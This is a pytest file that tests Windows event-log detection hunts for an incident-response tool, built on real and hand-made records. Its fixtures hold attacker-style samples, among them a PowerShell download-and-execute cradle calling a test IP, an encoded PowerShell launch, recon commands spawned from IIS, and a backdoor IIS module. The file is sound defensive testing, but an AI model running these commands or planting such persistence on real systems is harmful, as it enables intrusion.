"""The Windows event hunts (irtool/analysis/hunts/windows): on the real logs of tests/data/evtx,
and on records made by hand for what those logs do not hold, each with the records of another
provider that share its event id (ids collide across providers) and must not match."""

from __future__ import annotations

import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from irtool.analysis.hunts import SHIPPED, FindingDraft, load_hunt, load_hunts, run_hunts
from irtool.analysis.store import RequestStore
from irtool.model.hunt import Hunt
from irtool.model.problems import InvalidFile
from tests.support.evtx import (
    EVENTLOG_SECURITY,
    EVENTLOG_SYSTEM,
    IIS_CONFIG,
    OTHER,
    POWERSHELL,
    SCM,
    SECURITY,
    SYSMON,
    TASKS,
    Events,
    load_real,
)

T0 = datetime(2024, 3, 1, 12, 0)
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"


@pytest.fixture(scope="module")
def hunts() -> list[Hunt]:
    return [h for h in load_hunts() if h.table == "events"]


@pytest.fixture(scope="module")
def real(hunts: list[Hunt]) -> Iterator[list[FindingDraft]]:
    store = RequestStore(":memory:")
    try:
        load_real(store, ["security.evtx", "post-Security.evtx", "system.evtx"])
        yield run_hunts(store, hunts)
    finally:
        store.close()


@pytest.fixture
def st() -> Iterator[RequestStore]:
    store = RequestStore(":memory:")
    try:
        yield store
    finally:
        store.close()


def of(drafts: list[FindingDraft], hunt: str) -> list[FindingDraft]:
    return [d for d in drafts if d.hunt == hunt]


# -- the shipped hunts ------------------------------------------------------------------------


def test_every_windows_hunt_matches_channel_provider_and_event_id(hunts: list[Hunt]) -> None:
    files = sorted((SHIPPED / "windows").glob("*.yaml"))
    assert len(files) == len(hunts) == 12
    for hunt in hunts:
        sql = hunt.query
        assert "channel =" in sql and "provider =" in sql and "event_id" in sql, hunt.id
        assert hunt.attack and hunt.description.strip() and hunt.next_steps.strip(), hunt.id
        assert "window_start" in hunt.parameters, hunt.id


# -- the real logs ----------------------------------------------------------------------------


def test_real_logs_new_users_are_found(real: list[FindingDraft]) -> None:
    found = of(real, "win-new-local-user")
    assert sorted(d.summary for d in found) == [
        "account John-PC\\John (S-1-5-21-3838055588-3125202756-3154177548-1000) created on "
        "post-Security by WORKGROUP\\WIN-F0HKLEEGGT1$",
        "account WIN-03DLIIOFRRA\\archir (S-1-5-21-2603537626-3982775912-406486804-1001) created "
        "on security by WIN-03DLIIOFRRA\\fsir",
        "account WIN-03DLIIOFRRA\\fsir (S-1-5-21-2603537626-3982775912-406486804-1000) created "
        "on security by WORKGROUP\\WIN-03DLIIOFRRA$",
    ]
    assert sum(d.count for d in found) == 3  # the three 4720 records
    assert {d.indicators for d in found} == {
        (("account", "fsir"),),
        (("account", "archir"),),
        (("account", "John"),),
    }
    fsir = next(d for d in found if "fsir" in d.summary)
    assert fsir.severity == "high" and fsir.hosts == ("security",)
    assert fsir.first_seen == "2016-07-08T18:15:23.398026+00:00"
    assert [(ref[1].rsplit("/", 1)[-1], ref[2]) for ref in fsir.refs] == [("security.evtx", 51)]


def test_real_logs_group_additions_are_found_administrators_worst(
    real: list[FindingDraft],
) -> None:
    admins = of(real, "win-admin-group-addition")
    others = of(real, "win-group-addition")
    assert sum(d.count for d in admins) == 4  # 4732 to S-1-5-32-544: 3 + 1
    # The other 4732s and the 4728s but those that put a new account in Users and None as
    # Windows creates it (win-new-local-user says that): one to Performance Log Users.
    assert sum(d.count for d in others) == 1
    assert "Performance Log Users (S-1-5-32-559)" in others[0].summary
    assert {d.severity for d in admins} == {"critical"}
    assert {d.severity for d in others} == {"medium"}
    summaries = sorted(d.summary for d in admins)
    assert summaries[0].startswith(
        "John-PC\\John (S-1-5-21-3838055588-3125202756-3154177548-1000) added to "
        "Builtin\\Administrators (S-1-5-32-544) on post-Security"
    )
    twice = next(d for d in admins if "fsir" in d.summary)
    assert twice.count == 2 and twice.summary.endswith("(2 times)")
    assert real.index(twice) < real.index(others[0])  # worst first


def test_real_logs_services_installed_are_found(real: list[FindingDraft]) -> None:
    found = of(real, "win-service-installed")
    # 57 installs, less Defender's MpKsl driver that each definition update installs again
    assert sum(d.count for d in found) == 57 - 15
    assert not [d for d in found if "MpKsl" in d.summary]
    sysmon = next(d for d in found if d.key == "win-service-installed:system sysmon")
    assert sysmon.summary == (
        "service 'Sysmon' installed on system: C:\\Windows\\Sysmon.exe (start: auto start) "
        "as LocalSystem"
    )
    assert sysmon.indicators == (("service", "Sysmon"), ("file", "C:\\Windows\\Sysmon.exe"))


def test_real_logs_cleared_log_is_found(real: list[FindingDraft]) -> None:
    [cleared] = of(real, "win-log-cleared")
    assert cleared.summary == (
        "the Microsoft-Windows-Sysmon/Operational log of system was cleared by "
        "DESKTOP-2KGM189\\tony (2 times)"
    )
    assert [ref[2] for ref in cleared.refs] == [1847, 1848]
    assert cleared.severity == "high" and cleared.indicators == (("account", "tony"),)


def test_real_logs_routine_logons_raise_nothing(real: list[FindingDraft]) -> None:
    """583 + 25 4624s (interactive, service, network logons without an address) and the 4648s
    of winlogon.exe and consent.exe at those logons are routine."""
    assert of(real, "win-new-logon-source") == []
    assert of(real, "win-explicit-credentials") == []
    assert of(real, "win-logon-failure-burst") == []
    assert {d.hunt for d in real} == {
        "win-new-local-user",
        "win-admin-group-addition",
        "win-group-addition",
        "win-service-installed",
        "win-log-cleared",
    }


def test_the_window_narrows_what_is_reported(hunts: list[Hunt]) -> None:
    store = RequestStore(":memory:")
    try:
        load_real(store, ["security.evtx"])
        since = {h.id: {"window_start": "2016-07-09T00:00:00Z"} for h in hunts}
        found = of(run_hunts(store, hunts, params=since), "win-new-local-user")
        assert [d.summary.split(" ")[1] for d in found] == []  # both were made on 2016-07-08
        since = {h.id: {"window_start": "2016-07-08T20:00:00Z"} for h in hunts}
        found = of(run_hunts(store, hunts, params=since), "win-new-local-user")
        assert [d.summary.split(" ")[1] for d in found] == ["WIN-03DLIIOFRRA\\archir"]
    finally:
        store.close()


# -- logons from new sources ------------------------------------------------------------------


def logon(events: Events, at: datetime, address: str, kind: str = "3", user: str = "svc") -> None:
    data = {
        "LogonType": kind,
        "IpAddress": address,
        "TargetUserName": user,
        "TargetDomainName": "CORP",
    }
    events.add(SECURITY, 4624, at, data)


def test_a_logon_from_a_source_new_in_the_window_is_found_routine_ones_are_not(
    st: RequestStore, hunts: list[Hunt]
) -> None:
    events = Events()
    for day in range(10):  # the backup server and the admins' jump host, every day
        logon(events, T0 + timedelta(days=day), "10.0.0.5")
        logon(events, T0 + timedelta(days=day, hours=1), "10.0.0.9", "10", "admin")
    last = T0 + timedelta(days=9, hours=6)
    logon(events, last - timedelta(hours=2), "203.0.113.77", "10", "Administrator")
    logon(events, last - timedelta(hours=1), "203.0.113.77", "3", "Administrator")
    logon(events, last, "127.0.0.1", "3")  # the machine itself
    logon(events, last, "-", "3")  # no address
    logon(events, last, "198.51.100.1", "2")  # interactive: not a network logon
    events.add((SECURITY[0], OTHER), 4624, last, {"LogonType": "3", "IpAddress": "192.0.2.1"})
    events.load(st)
    [found] = of(run_hunts(st, hunts), "win-new-logon-source")
    assert found.summary == (
        "203.0.113.77 logged on to web01 over RDP (type 10) and over the network (type 3) as "
        "CORP\\Administrator, 2 times; not seen before the window"
    )
    assert found.key == "win-new-logon-source:web01 203.0.113.77"
    assert found.indicators == (("ip", "203.0.113.77"),)
    # A window that starts before the routine sources' first logon makes them new too.
    early = {"win-new-logon-source": {"window_start": "2024-01-01T00:00:00Z"}}
    keys = {d.key for d in of(run_hunts(st, hunts, params=early), "win-new-logon-source")}
    assert keys == {
        f"win-new-logon-source:web01 {a}" for a in ("10.0.0.5", "10.0.0.9", "203.0.113.77")
    }


def test_each_hosts_window_ends_at_its_own_last_event(st: RequestStore, hunts: list[Hunt]) -> None:
    # web02's log was fetched days before web01's: its new source, in its own last hours,
    # is new on web02 although it is days before the last event of all.
    for host, end_day in (("web01", 9), ("web02", 6)):
        events = Events(name=f"{host}.evtx", computer=host.upper())
        for day in range(end_day + 1):
            logon(events, T0 + timedelta(days=day), "10.0.0.5")
        logon(events, T0 + timedelta(days=end_day, hours=2), "203.0.113.9", "10", "Administrator")
        events.load(st, host=host)
    found = of(run_hunts(st, hunts), "win-new-logon-source")
    assert sorted(d.key for d in found) == [
        "win-new-logon-source:web01 203.0.113.9",
        "win-new-logon-source:web02 203.0.113.9",
    ]


# -- what the real logs cannot show: one case per hunt ----------------------------------------


@dataclass(frozen=True)
class Case:
    hunt: str
    build: Callable[[Events], None]  # the records: matching ones and look-alikes
    summaries: tuple[str, ...]  # the findings expected, in key order
    counts: tuple[int, ...]
    indicators: tuple[tuple[tuple[str, str], ...], ...] = ()


def w3wp_shell(e: Events) -> None:
    e.add(
        SECURITY,
        4688,
        T0,
        {
            "ParentProcessName": W3WP,
            "SubjectUserName": "DefaultAppPool",
            "SubjectDomainName": "IIS APPPOOL",
            "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd.exe /c whoami /all",
        },
    )
    e.add(
        SECURITY,
        4688,
        T0 + timedelta(minutes=1),
        {
            "ParentProcessName": W3WP,
            "SubjectUserName": "DefaultAppPool",
            "SubjectDomainName": "IIS APPPOOL",
            "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd.exe /c net user",
        },
    )
    e.add(
        SYSMON,
        1,
        T0 + timedelta(minutes=2),
        {
            "ParentImage": W3WP,
            "User": "IIS APPPOOL\\shop",
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": "powershell -nop -enc SQBFAFgA",
        },
    )
    # look-alikes: another provider's 4688 and Sysmon-like 1, a harmless child, another parent
    e.add(
        (SECURITY[0], OTHER),
        4688,
        T0,
        {"ParentProcessName": W3WP, "NewProcessName": "C:\\Windows\\System32\\cmd.exe"},
    )
    e.add(
        (SYSMON[0], OTHER), 1, T0, {"ParentImage": W3WP, "Image": "C:\\Windows\\System32\\cmd.exe"}
    )
    e.add(
        SECURITY,
        4688,
        T0,
        {"ParentProcessName": W3WP, "NewProcessName": "C:\\Windows\\System32\\conhost.exe"},
    )
    e.add(
        SECURITY,
        4688,
        T0,
        {
            "ParentProcessName": "C:\\Windows\\explorer.exe",
            "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        },
    )


def powershell(e: Events) -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')"
    e.add(POWERSHELL, 4104, T0, {"ScriptBlockText": script, "ScriptBlockId": "a"})
    e.add(
        POWERSHELL, 4104, T0 + timedelta(hours=1), {"ScriptBlockText": script, "ScriptBlockId": "b"}
    )
    e.add(POWERSHELL, 4104, T0, {"ScriptBlockText": "Get-ChildItem C:\\inetpub"})
    e.add((POWERSHELL[0], OTHER), 4104, T0, {"ScriptBlockText": script})
    e.add(("Windows PowerShell", "PowerShell"), 4104, T0, {"ScriptBlockText": script})


def iis_config(e: Events) -> None:
    e.add(
        IIS_CONFIG,
        29,
        T0,
        {
            "Configuration": "/system.webServer/globalModules/add[@name='IisBkd']",
            "ConfigPath": "MACHINE/WEBROOT/APPHOST",
            "NewValue": "C:\\Windows\\Temp\\bkd.dll",
        },
    )
    e.add(
        IIS_CONFIG,
        29,
        T0,
        {
            "Configuration": "/system.webServer/defaultDocument/files",
            "ConfigPath": "MACHINE/WEBROOT/APPHOST/Shop",
            "NewValue": "index.html",
        },
    )
    e.add(("System", "Microsoft-Windows-Kernel-General"), 29, T0, {"Configuration": "/modules"})
    e.add((IIS_CONFIG[0], OTHER), 29, T0, {"Configuration": "/system.webServer/handlers/add"})


def log_cleared(e: Events) -> None:
    who = {"LogFileCleared.SubjectUserName": "mallory", "LogFileCleared.SubjectDomainName": "CORP"}
    e.add(EVENTLOG_SECURITY, 1102, T0, who)
    e.add(EVENTLOG_SYSTEM, 104, T0, {**who, "LogFileCleared.Channel": "Application"})
    e.add((EVENTLOG_SECURITY[0], OTHER), 1102, T0, who)
    e.add(("System", "Microsoft-Windows-Kernel-Power"), 104, T0, who)
    e.add(("Application", "Microsoft-Windows-Eventlog"), 104, T0, who)


def failure_burst(e: Events) -> None:
    for i in range(12):
        why = "0xC000006A" if i % 3 else "0xC0000064"
        e.add(
            SECURITY,
            4625,
            T0 + timedelta(minutes=i),
            {
                "IpAddress": "198.51.100.7",
                "TargetUserName": f"user{i % 4}",
                "TargetDomainName": "WEB01",
                "Status": "0xC000006D",
                "SubStatus": why,
            },
        )
    for i in range(5):  # a user who mistyped: below the threshold
        e.add(
            SECURITY,
            4625,
            T0 + timedelta(minutes=i),
            {"IpAddress": "10.0.0.9", "TargetUserName": "alice", "SubStatus": "0xC000006A"},
        )
    for i in range(12):  # the same burst written by another provider
        e.add((SECURITY[0], OTHER), 4625, T0 + timedelta(minutes=i), {"IpAddress": "192.0.2.3"})
    for i in range(12):  # 12 failures over 12 hours: no burst
        e.add(
            SECURITY,
            4625,
            T0 + timedelta(hours=i),
            {"IpAddress": "192.0.2.4", "TargetUserName": "bob", "SubStatus": "0xC000006A"},
        )


TASK_XML = (
    "<Task><Actions Context='Author'><Exec><Command>C:\\Users\\Public\\upd.exe</Command>"
    "<Arguments>-q</Arguments></Exec></Actions></Task>"
)


def scheduled_task(e: Events) -> None:
    e.add(
        SECURITY,
        4698,
        T0,
        {
            "TaskName": "\\Updater",
            "TaskContent": TASK_XML,
            "SubjectUserName": "mallory",
            "SubjectDomainName": "CORP",
        },
    )
    e.add(TASKS, 106, T0, {"TaskName": "\\Updater", "UserContext": "CORP\\mallory"})
    e.add(
        TASKS, 141, T0 + timedelta(hours=1), {"TaskName": "\\Updater", "UserName": "CORP\\mallory"}
    )
    e.add((SECURITY[0], OTHER), 4698, T0, {"TaskName": "\\Other"})
    e.add(("Microsoft-Windows-TaskScheduler/Maintenance", TASKS[1]), 106, T0, {"TaskName": "\\M"})


def service(e: Events) -> None:
    e.add(
        SECURITY,
        4697,
        T0,
        {
            "ServiceName": "PSEXESVC",
            "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceStartType": "3",
            "ServiceAccount": "LocalSystem",
        },
    )
    e.add(
        SCM,
        7045,
        T0,
        {
            "ServiceName": "PSEXESVC",
            "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        },
    )
    e.add(("System", OTHER), 7045, T0, {"ServiceName": "Fake", "ImagePath": "x.exe"})
    e.add((SECURITY[0], OTHER), 4697, T0, {"ServiceName": "Fake2", "ServiceFileName": "y.exe"})


def explicit_credentials(e: Events) -> None:
    e.add(
        SECURITY,
        4648,
        T0,
        {
            "SubjectUserName": "WEB01$",
            "SubjectDomainName": "CORP",
            "ProcessName": W3WP,
            "TargetUserName": "Administrator",
            "TargetDomainName": "CORP",
            "TargetServerName": "fileserver",
            "IpAddress": "10.0.0.20",
        },
    )
    e.add(
        SECURITY,
        4648,
        T0,
        {
            "SubjectUserName": "WEB01$",
            "TargetUserName": "alice",
            "ProcessName": "C:\\Windows\\System32\\winlogon.exe",
            "TargetServerName": "localhost",
            "IpAddress": "127.0.0.1",
        },
    )
    e.add((SECURITY[0], OTHER), 4648, T0, {"ProcessName": W3WP, "TargetServerName": "dc01"})


def user_and_admins(e: Events) -> None:
    e.add(
        SECURITY,
        4720,
        T0,
        {
            "TargetUserName": "support$",
            "TargetDomainName": "WEB01",
            "TargetSid": "S-1-5-21-1-2-3-1009",
            "SubjectUserName": "DefaultAppPool",
            "SubjectDomainName": "IIS APPPOOL",
        },
    )
    e.add(
        SECURITY,
        4732,
        T0,
        {
            "MemberName": "-",
            "MemberSid": "S-1-5-21-1-2-3-1009",
            "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544",
            "SubjectUserName": "DefaultAppPool",
            "SubjectDomainName": "IIS APPPOOL",
        },
    )
    e.add((SECURITY[0], OTHER), 4720, T0, {"TargetUserName": "ghost"})
    e.add(
        (SECURITY[0], OTHER),
        4732,
        T0,
        {"MemberSid": "S-1-5-21-1-2-3-1010", "TargetSid": "S-1-5-32-544"},
    )


CASES = [
    Case(
        "win-w3wp-shell",
        w3wp_shell,
        (
            "w3wp.exe started cmd.exe on web01 2 times as IIS APPPOOL\\DefaultAppPool: "
            "cmd.exe /c whoami /all | cmd.exe /c net user",
            "w3wp.exe started powershell.exe on web01 1 times as IIS APPPOOL\\shop: "
            "powershell -nop -enc SQBFAFgA",
        ),
        (2, 1),
    ),
    Case(
        "win-powershell-attack-tooling",
        powershell,
        (
            "PowerShell on web01 ran a script block naming downloadstring, iex, net.webclient: "
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1') (2 times)",
        ),
        (2,),
        ((("url", "http://203.0.113.5/p.ps1"),),),
    ),
    Case(
        "win-iis-config-change",
        iis_config,
        (
            "IIS configuration /system.webServer/globalModules/add[@name='IisBkd'] changed at "
            "MACHINE/WEBROOT/APPHOST on web01: (none) -> C:\\Windows\\Temp\\bkd.dll",
        ),
        (1,),
        ((("module", "C:\\Windows\\Temp\\bkd.dll"),),),
    ),
    Case(
        "win-log-cleared",
        log_cleared,
        (
            "the Application log of web01 was cleared by CORP\\mallory",
            "the Security log of web01 was cleared by CORP\\mallory",
        ),
        (1, 1),
        ((("account", "mallory"),), (("account", "mallory"),)),
    ),
    Case(
        "win-logon-failure-burst",
        failure_burst,
        (
            "198.51.100.7 failed 12 logons on web01 (SubStatus 0xc0000064 no such account, "
            "0xc000006a wrong password) for 4 accounts: WEB01\\user0, WEB01\\user1, "
            "WEB01\\user2, WEB01\\user3",
        ),
        (12,),
        ((("ip", "198.51.100.7"),),),
    ),
    Case(
        "win-scheduled-task",
        scheduled_task,
        (
            "task \\Updater on web01: created, deleted, registered by CORP\\mallory, mallory; "
            "runs C:\\Users\\Public\\upd.exe -q",
        ),
        (3,),
        ((("task", "\\Updater"), ("file", "C:\\Users\\Public\\upd.exe")),),
    ),
    Case(
        "win-service-installed",
        service,
        (
            "service 'PSEXESVC' installed on web01: %SystemRoot%\\PSEXESVC.exe (start: 3, "
            "demand start) as LocalSystem, 2 times",
        ),
        (2,),
        ((("service", "PSEXESVC"), ("file", "%SystemRoot%\\PSEXESVC.exe")),),
    ),
    Case(
        "win-explicit-credentials",
        explicit_credentials,
        (
            f"CORP\\WEB01$ ran {W3WP} with the credentials of CORP\\Administrator to fileserver "
            "on web01",
        ),
        (1,),
        ((("account", "Administrator"), ("ip", "10.0.0.20")),),
    ),
    Case(
        "win-new-local-user",
        user_and_admins,
        (
            "account WEB01\\support$ (S-1-5-21-1-2-3-1009) created on web01 by "
            "IIS APPPOOL\\DefaultAppPool",
        ),
        (1,),
        ((("account", "support$"),),),
    ),
    Case(
        "win-admin-group-addition",
        user_and_admins,
        (
            "WEB01\\support$ (S-1-5-21-1-2-3-1009) added to Builtin\\Administrators "
            "(S-1-5-32-544) on web01 by IIS APPPOOL\\DefaultAppPool",
        ),
        (1,),
        ((("account", "support$"),),),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.hunt for c in CASES])
def test_hunt_case(case: Case, st: RequestStore, hunts: list[Hunt]) -> None:
    events = Events()
    case.build(events)
    events.load(st)
    found = sorted(of(run_hunts(st, hunts), case.hunt), key=lambda d: d.key)
    assert tuple(d.summary for d in found) == case.summaries
    assert tuple(d.count for d in found) == case.counts
    if case.indicators:
        assert tuple(d.indicators for d in found) == case.indicators
    for draft in found:
        assert draft.hosts == ("web01",)
        lines = [ref[2] for ref in draft.refs]
        matching = [r for r in events.rows if r["line"] in lines]
        assert len(matching) == draft.count
        assert all(r["provider"] != OTHER for r in matching)  # never another provider's record
    # the same records again: the same findings (stable keys)
    assert [d.key for d in sorted(of(run_hunts(st, hunts), case.hunt), key=lambda d: d.key)] == [
        d.key for d in found
    ]


def test_nothing_on_an_empty_store(st: RequestStore, hunts: list[Hunt]) -> None:
    assert run_hunts(st, hunts) == []


# -- events hunts: checked and run over their table -------------------------------------------


def write(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "h.yaml"
    path.write_text(textwrap.dedent(body))
    return path


HEADER = """\
    id: my-events
    version: "1"
    title: mine
    severity: low
    table: events
    attack: [T1078]
    description: d
    next_steps: n
"""


def test_an_events_hunt_is_checked_on_the_events_table(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + "    query: SELECT no_such_column FROM events\n")
    with pytest.raises(InvalidFile) as caught:
        load_hunt(path)
    assert "no_such_column" in str(caught.value)
    assert str(caught.value).startswith(f"{path}:9:")


def test_indicators_of_the_wrong_type_are_a_problem(tmp_path: Path) -> None:
    query = (
        "    query: |\n      SELECT 's' AS summary, min(ts) AS first_seen, max(ts) AS last_seen, "
        "count(*) AS hits, [{'sha256': evidence_sha256, 'source': source, 'line': line}] AS refs, "
        "[host] AS hosts, 'k' AS key, ['x'] AS indicators FROM events GROUP BY ALL\n"
    )
    with pytest.raises(InvalidFile, match="column 'indicators' is VARCHAR\\[\\], not STRUCT"):
        load_hunt(write(tmp_path, HEADER + query))


def test_a_duration_counts_back_from_the_last_event(tmp_path: Path, st: RequestStore) -> None:
    """Not from the last web request: the two tables' times need not overlap."""
    body = HEADER + textwrap.indent(
        textwrap.dedent("""\
        parameters:
          window_start: {type: timestamp, default: 2h, description: w}
        query: |
          SELECT 'user ' || data['TargetUserName'] AS summary, min(ts) AS first_seen,
                 max(ts) AS last_seen, count(*) AS hits,
                 min_by({'sha256': evidence_sha256, 'source': source, 'line': line},
                        {'ts': ts, 'line': line}, 50) AS refs,
                 list(DISTINCT host) AS hosts, data['TargetUserName'] AS key,
                 [{'kind': 'account', 'value': data['TargetUserName']},
                  {'kind': 'nonsense', 'value': 'x'}, {'kind': 'ip', 'value': NULL}] AS indicators
          FROM events WHERE ts >= $window_start GROUP BY data['TargetUserName']
        """),
        "    ",
    )
    hunt = load_hunt(write(tmp_path, body)).hunt
    events = Events()
    events.add(SECURITY, 4720, T0, {"TargetUserName": "old"})
    events.add(SECURITY, 4720, T0 + timedelta(hours=5), {"TargetUserName": "new"})
    events.load(st)
    [draft] = run_hunts(st, [hunt])
    assert draft.summary == "user new" and draft.key == "my-events:new"
    assert draft.indicators == (("account", "new"),)  # unknown kinds and empty values dropped
